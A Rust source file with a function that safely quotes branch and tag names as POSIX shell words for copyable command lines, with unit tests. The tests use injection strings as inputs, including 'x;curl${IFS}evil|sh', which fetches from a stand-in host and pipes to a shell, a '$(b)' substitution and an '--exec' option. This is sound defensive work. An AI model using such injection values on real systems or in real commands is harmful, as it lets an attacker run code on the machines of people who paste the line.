//! Words of a command line that a person is told to copy.

use std::borrow::Cow;

/// The text as one word of a POSIX shell: as it is when it is plain, in single quotes otherwise.
///
/// Names of branches and tags come from strangers and may hold `;`, `$(…)` and the like. Control
/// characters are replaced: a pasted line break runs what stands before it.
#[must_use]
pub fn word(text: &str) -> Cow<'_, str> {
    let is_plain = |it: char| it.is_alphanumeric() || "._/@+-:=,".contains(it);
    if !text.is_empty() && !text.starts_with('-') && text.chars().all(is_plain) {
        return Cow::Borrowed(text);
    }
    let shown: String = text.chars().map(|it| if it.is_control() { '?' } else { it }).collect();
    Cow::Owned(format!("'{}'", shown.replace('\'', r"'\''")))
}

#[cfg(test)]
mod tests {
    use super::word;

    #[test]
    fn plain_names_stay_and_others_are_quoted() {
        assert_eq!(word("feature/größe-1.4"), "feature/größe-1.4");
        assert_eq!(word("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
        assert_eq!(word("a'$(b)'"), r"'a'\''$(b)'\'''");
        assert_eq!(word("--exec=x"), "'--exec=x'");
        assert_eq!(word("a\nb"), "'a?b'");
        assert_eq!(word(""), "''");
    }
}
